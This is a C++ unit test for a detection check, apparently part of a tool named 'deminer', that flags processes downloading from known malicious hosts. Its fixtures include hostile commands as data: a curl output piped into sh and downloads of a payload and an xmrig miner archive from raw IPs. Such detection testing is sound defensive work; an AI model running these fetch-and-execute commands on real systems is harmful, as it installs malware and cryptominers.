#include <gtest/gtest.h>

#include "checks/test_facts.h"

namespace deminer {
extern const Check kProcIocCmdline;
namespace {

TEST(ProcIocCmdlineCheckTest, FlagsDownloadsFromSeedHosts) {
  Facts facts = BaseFacts();
  facts.processes.push_back(MakeProcess(
      10, 700, {"wget", "https://accrochezvous.fr/javae", "-O", "/tmp/javae"}, "/usr/bin/wget"));
  facts.processes.push_back(
      MakeProcess(11, 700, {"sh", "-c", "curl -s http://77.110.110.55:8080/x | sh"}, "/bin/dash"));
  facts.processes.push_back(
      MakeProcess(12, 700, {"/usr/bin/curl", "--url=http://185.202.239.150/xmrig.tgz"}));
  facts.processes.push_back(MakeProcess(13, 700, {"wget", "https://example.org/x"}));
  facts.processes.push_back(MakeProcess(14, 700, {"grep", "accrochezvous"}));
  const auto out = RunCheck(kProcIocCmdline, facts);
  ASSERT_EQ(out.size(), 3u);
  EXPECT_EQ(out[0].evidence["ioc_host"], "accrochezvous.fr");
  EXPECT_EQ(out[0].evidence["ancestry"][0]["cmdline"], "node server.js");
  EXPECT_EQ(out[1].evidence["ioc_host"], "77.110.110.55");
  EXPECT_EQ(out[2].evidence["ioc_host"], "185.202.239.150");
  for (const Finding& f : out) EXPECT_EQ(f.severity, Severity::kCritical);
}

}  // namespace
}  // namespace deminer
